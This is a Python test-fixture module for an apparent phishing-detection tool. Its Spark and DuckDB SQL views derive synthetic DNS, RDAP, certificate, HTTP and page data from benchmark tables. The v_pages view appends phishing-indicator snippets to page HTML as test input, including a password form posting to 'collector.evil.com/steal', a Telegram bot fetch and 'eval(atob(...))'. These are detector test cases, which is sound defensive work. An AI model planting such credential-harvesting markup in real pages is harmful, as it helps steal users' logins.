"""Derived test-input views of the driver queries (FIXTURES.md section 4).

The driver tables hold no DNS, RDAP or certificate data, so these views derive
such captures from real rows by arithmetic.  The SQL is written in the subset
that Spark SQL and DuckDB both run unchanged; it is a test-input definition
(fixed text), registered as temp views on the Spark side and inlined as CTEs
in the oracle SQL.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession

from lurewatch.operators.skew import spread

BASE_TABLES = ("region", "nation", "customer", "supplier", "part", "orders", "lineitem", "events",
               "documents", "embeddings", "pages", "benchmark", "labels", "conversations")

# ---------------------------------------------------------------------------
# View definitions (test input, shared verbatim with the oracle).
# ---------------------------------------------------------------------------
VIEW_SQL: dict[str, str] = {
    "v_hosts": """
SELECT p_partkey AS n,
  CASE p_partkey % 5 WHEN 0 THEN '' WHEN 1 THEN 'www.' WHEN 2 THEN 'login.' WHEN 3 THEN 'a.b.' ELSE 'xn--' END
  || replace(p_name, ' ', '-') || '-' || CAST(p_partkey % 97 AS STRING) || '.' ||
  CASE p_partkey % 10 WHEN 0 THEN 'com' WHEN 1 THEN 'xyz' WHEN 2 THEN 'co.uk' WHEN 3 THEN 'top' WHEN 4 THEN 'net'
    WHEN 5 THEN 'com.sg' WHEN 6 THEN 'tk' WHEN 7 THEN 'zz' WHEN 8 THEN 'shop.ck' ELSE 'www.ck' END AS host
FROM part""",
    "v_raw": """
SELECT page_id AS n, CASE page_id % 10
  WHEN 0 THEN url WHEN 1 THEN upper(url) WHEN 2 THEN '*.' || h WHEN 3 THEN h || ':8443' WHEN 4 THEN '# ' || url
  WHEN 5 THEN 'localhost' WHEN 6 THEN '  ' || h || '  ' WHEN 7 THEN h || '/path' WHEN 8 THEN '#' || h ELSE '' END AS line
FROM (SELECT page_id, url, regexp_extract(url, '://([^/]+)', 1) AS h FROM pages) t""",
    "v_pages": """
SELECT page_id AS n, 'p' || CAST(page_id AS STRING) || '-' || regexp_extract(url, '://([^/]+)', 1) AS host,
  CASE page_id % 9 WHEN 0 THEN replace(url, 'https://', 'http://') || '/owa' ELSE url END AS final_url,
  html || CASE page_id % 16
    WHEN 0 THEN '<input type="password"><script>fetch("api.telegram.org/bot1")</script>'
    WHEN 1 THEN '<form action="https://collector.evil.com/steal"><input type=password></form>'
    WHEN 2 THEN '<form action="/local"><input TYPE="PASSWORD"></form>'
    WHEN 3 THEN 'enter your 2fa code' WHEN 4 THEN '<input name="ccnum"> mailto:x@y.com'
    WHEN 5 THEN '<script>window.ethereum.enable()</script>'
    WHEN 6 THEN '<script>eval(atob("x"))</script>' WHEN 7 THEN 'clipboard writeText'
    WHEN 8 THEN '<!-- by elite phisher -->' WHEN 9 THEN 'this DOMAIN for sale'
    WHEN 10 THEN 'please verify your Wallet' WHEN 11 THEN '<title>Small Ring online</title>'
    WHEN 12 THEN repeat('small ', 60) WHEN 13 THEN '<p>' || repeat('QUJD', 18) || '</p>'
    WHEN 14 THEN '<p>' || repeat('QUJD', 17) || 'Q</p>' ELSE '' END AS html
FROM pages""",
    "v_http": """
SELECT p.n, p.host, k.variant,
  CASE WHEN k.variant = 'robots' THEN CASE WHEN p.n % 4 = 0 THEN 404 ELSE 200 END
       WHEN p.n % 11 = 0 THEN 404 WHEN p.n % 13 = 0 THEN 301 WHEN p.n % 17 = 0 THEN 204 ELSE 200 END AS status,
  CASE WHEN k.variant = 'robots' THEN CASE WHEN p.n % 5 = 0 THEN '' ELSE 'User-agent: *' END
       WHEN k.variant = 'alternative' AND p.n % 3 = 0 THEN repeat('mobile only ', 60) ELSE p.html END AS html,
  CASE WHEN k.variant = 'primary' THEN p.n % 4 ELSE 0 END AS hops, p.final_url,
  CASE p.n % 7 WHEN 0 THEN 'Sedo Parking' WHEN 1 THEN 'nginx' END AS server,
  CASE WHEN p.n % 6 = 0 THEN 'max-age=1' END AS hsts, CASE WHEN p.n % 2 = 0 THEN 'self' END AS csp,
  CASE WHEN p.n % 3 = 0 THEN 'DENY' END AS xfo, CASE WHEN p.n % 5 = 0 THEN 'nosniff' END AS xcto
FROM v_pages p CROSS JOIN (VALUES ('primary'), ('alternative'), ('robots')) k(variant)""",
    "v_dns": """
SELECT n, host, host AS qname, 'A' AS rdtype, k AS pos,
  '10.' || CAST(n % 250 AS STRING) || '.0.' || CAST(k AS STRING) AS rdata, 60 + (n % 5) * 100 AS ttl, 'NOERROR' AS rcode
  FROM v_pages CROSS JOIN (VALUES (0), (1), (2), (3), (4), (5)) t(k) WHERE k < n % 7
UNION ALL SELECT n, host, host, 'AAAA', 0, '::' || CAST(n AS STRING), 30 + (n % 9) * 100, 'NOERROR' FROM v_pages WHERE n % 5 = 0
UNION ALL SELECT n, host, host, 'MX', k, CASE (n + k) % 4 WHEN 0 THEN 'aspmx.l.google.com.' WHEN 1 THEN 'mx.corp.net.'
  WHEN 2 THEN 'mail.olive.com.' ELSE 'mx2.corp.net.' END, 300, 'NOERROR' FROM v_pages CROSS JOIN (VALUES (0), (1)) t(k) WHERE n % 3 = 0
UNION ALL SELECT n, host, host, 'NS', 0, 'ns1.example.com.', 300, 'NOERROR' FROM v_pages WHERE n % 2 = 0
UNION ALL SELECT n, host, host, 'TXT', 0, CASE n % 4 WHEN 0 THEN 'v=SPF1 ~all' WHEN 1 THEN 'v=spf1 -all' ELSE 'other' END, 300, 'NOERROR' FROM v_pages
UNION ALL SELECT n, host, '_dmarc.' || host, 'TXT', 0, CASE n % 3 WHEN 0 THEN 'v=DMARC1; p=none' WHEN 1 THEN 'v=DMARC1; p=reject'
  ELSE 'v=dmarc1' END, 300, 'NOERROR' FROM v_pages WHERE n % 7 <> 1
UNION ALL SELECT n, host, '_dmarc.' || host, 'TXT', 0, CAST(NULL AS STRING), CAST(NULL AS INT), 'NXDOMAIN' FROM v_pages WHERE n % 19 = 0""",
    "v_ptr": """
SELECT rdata AS ip, 'h' || CAST(pos % 2 AS STRING) || '.isp.net.' AS target FROM v_dns WHERE rdtype = 'A' AND n % 4 <> 0 GROUP BY rdata, pos""",
    "v_cname": """
SELECT n, host, CASE WHEN k = 0 THEN host ELSE 'c' || CAST(k AS STRING) || '-' || CAST(n AS STRING) || '.cdn.net' END AS src,
  CASE WHEN k = n % 13 - 1 AND n % 6 = 0 THEN 'x.M247.net.'
       ELSE 'c' || CAST(k + 1 AS STRING) || '-' || CAST(n AS STRING) || '.cdn.net.' END AS target
FROM v_pages CROSS JOIN (VALUES (0), (1), (2), (3), (4), (5), (6), (7), (8), (9), (10), (11)) t(k) WHERE k < n % 13""",
    "v_rdap": """
SELECT n, host, CASE WHEN n % 10 = 2 THEN 404 ELSE 200 END AS status,
  CASE WHEN n % 10 = 3 THEN 'not json' WHEN n % 10 = 4 THEN '{"events":[{"eventAction":"expiration","eventDate":"2027-01-01"}]}'
  ELSE '{"events":[{"eventAction":"registration","eventDate":"2025-12-' || CASE WHEN n % 28 < 9 THEN '0' ELSE '' END
    || CAST(n % 28 + 1 AS STRING) || 'T18:00:00Z"}],"entities":[{"roles":["registrar"],"vcardArray":["vcard",[["fn",{},"text","Reg '
    || CAST(n % 3 AS STRING) || '"]]]}]}' END AS body
FROM v_pages""",
    "v_ct": """
SELECT n, host, CASE WHEN n % 10 = 5 THEN 503 ELSE 200 END AS status,
  CASE WHEN n % 10 = 6 THEN '{"error":"x"}' WHEN n % 10 = 7 THEN 'not-json'
  ELSE CASE n % 4 WHEN 0 THEN '[]' WHEN 1 THEN '[{"not_before":"2024-01-01"}]'
    WHEN 2 THEN '[{"not_before":"2024-01-01"},{"entry_timestamp":"2023-06-15"}]'
    ELSE '[{"not_before":"2024-01-01"},{"not_before":""},{"not_before":"2022-02-02"}]' END END AS body
FROM v_pages""",
    "v_cert": """
SELECT n, host, CASE WHEN n % 9 = 0 THEN 'timeout' END AS error,
  '{"subject":[[["countryName","SG"]],[["commonName","' || CASE n % 5 WHEN 0 THEN 'Small Ring secure' ELSE host END || '"]]'
  || CASE WHEN n % 8 = 0 THEN ',[["organizationName","Acme Corp."]]' ELSE '' END
  || '],"subjectAltName":[["DNS","' || host || '"],["DNS","www.' || host || '"]],"notBefore":"'
  || CASE n % 4 WHEN 0 THEN 'Jan  5 09:34:43 2026 GMT' WHEN 1 THEN 'Nov 10 00:00:00 2025 GMT' WHEN 2 THEN 'Dec 16 12:00:00 2025 GMT' ELSE 'INVALID' END
  || '","notAfter":"Jan  1 00:00:00 2027 GMT"}' AS body
FROM v_pages""",
    "v_favicon": """
SELECT n, host, CASE WHEN n % 6 = 0 THEN 404 ELSE 200 END AS status,
  CASE WHEN n % 7 = 0 THEN '' ELSE 'fav' || CAST(n % 5 AS STRING) END AS content
FROM v_pages""",
}

VIEW_DEPS: dict[str, tuple[str, ...]] = {
    "v_hosts": (), "v_raw": (), "v_pages": (), "v_http": ("v_pages",), "v_dns": ("v_pages",),
    "v_ptr": ("v_dns",), "v_cname": ("v_pages",), "v_rdap": ("v_pages",), "v_ct": ("v_pages",),
    "v_cert": ("v_pages",), "v_favicon": ("v_pages",),
}

#: Views that hold page bodies.
BODY_VIEWS = ("v_pages", "v_http")


def register_base(spark: SparkSession, sf_dir: str, tables=BASE_TABLES) -> None:
    for t in tables:
        spark.read.parquet(f"{sf_dir}/{t}.parquet").createOrReplaceTempView(t)


_REGISTERED: dict[int, str] = {}


def register_views(spark: SparkSession, sf_dir: str) -> None:
    """Register base tables and derived views for ``sf_dir`` (skipped when already current)."""
    key = id(spark)
    if _REGISTERED.get(key) == sf_dir and spark.catalog.tableExists("v_favicon"):
        return
    register_base(spark, sf_dir, ("part", "pages", "events"))
    for name in VIEW_SQL:  # insertion order respects dependencies
        spark.sql(VIEW_SQL[name]).createOrReplaceTempView(name)
    # patterns run over every body of these, which a task of a large row group would do alone
    spread(spark.table("pages")).createOrReplaceTempView("pages")
    for name in BODY_VIEWS:
        spark.sql(VIEW_SQL[name]).createOrReplaceTempView(name)
    register_base(spark, sf_dir, ("pages",))
    _REGISTERED[key] = sf_dir


def view(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    register_views(spark, sf_dir)
    return spark.table(name)


def _closure(names) -> list[str]:
    seen: list[str] = []

    def visit(n):
        for d in VIEW_DEPS[n]:
            visit(d)
        if n not in seen:
            seen.append(n)
    for n in names:
        visit(n)
    return seen


def with_views(sql: str, names) -> str:
    """Prefix ``sql`` with the CTEs of the named views (and their dependencies)."""
    order = _closure(names)
    if not order:
        return sql
    ctes = ",\n".join(f"{n} AS ({VIEW_SQL[n]}\n)" for n in order)
    body = sql.lstrip()
    head = body[:15].upper()
    if head.startswith("WITH RECURSIVE "):
        return f"WITH RECURSIVE {ctes},\n{body[len('WITH RECURSIVE '):]}"
    if head.startswith("WITH "):
        return f"WITH {ctes},\n{body[len('WITH '):]}"
    return f"WITH {ctes}\n{body}"
